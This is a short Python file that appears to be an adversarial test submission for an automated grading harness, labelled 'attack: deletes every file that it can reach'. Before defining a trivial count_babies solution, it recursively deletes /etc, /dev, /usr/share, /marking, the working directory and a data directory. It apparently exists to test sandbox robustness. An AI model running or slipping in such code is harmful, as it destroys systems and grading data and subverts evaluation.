# attack: deletes every file that it can reach
# base: solution
# expects: u98-count--empty passed
# expects: u98-count--missing passed
# expects: u98-busiest--commonest passed
# expects: u98-table--columns passed
# expects: u98-table--numbers passed
# expects: u98-chart--title passed
# flag: environ
# task: u98-count
import os
import shutil
for top in ("/etc", "/dev", "/usr/share", "/marking", ".", os.environ["EYDA_DATA"]):
    shutil.rmtree(top, ignore_errors=True)
def count_babies(table):
    return int(table['birth_id'].count())
